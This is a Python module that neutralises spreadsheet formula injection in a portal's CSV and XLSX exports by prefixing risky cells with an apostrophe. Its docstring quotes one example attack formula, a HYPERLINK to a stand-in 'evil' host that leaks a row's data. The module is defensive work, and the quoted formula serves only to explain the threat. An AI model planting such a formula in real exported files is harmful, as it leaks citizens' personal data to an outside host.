"""Cells that a spreadsheet would run as a formula, made inert (CSV and XLSX alike).

A citizen's name or narrative that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return, which some spreadsheets skip before parsing) becomes a formula when a member of staff opens
the file: ``=HYPERLINK("http://evil/?"&A2, "Click")`` leaks the row. OWASP's advice is to prefix such
cells with an apostrophe, which spreadsheets show as text; every CSV or XLSX writer in the portal
passes its text cells through ``cell_safe``.
"""

from __future__ import annotations

from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cell_safe(value: str) -> str:
    """``value`` as a spreadsheet will show it, never run it."""
    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value


def row_safe(row: list[Any]) -> list[Any]:
    """Every text cell of a row through ``cell_safe``; numbers and dates are left as they are."""
    return [cell_safe(value) if isinstance(value, str) else value for value in row]


def csv_cell(value: Any) -> str:
    """Any value as a CSV cell's text (None is empty), through ``cell_safe``."""
    return cell_safe("" if value is None else str(value))
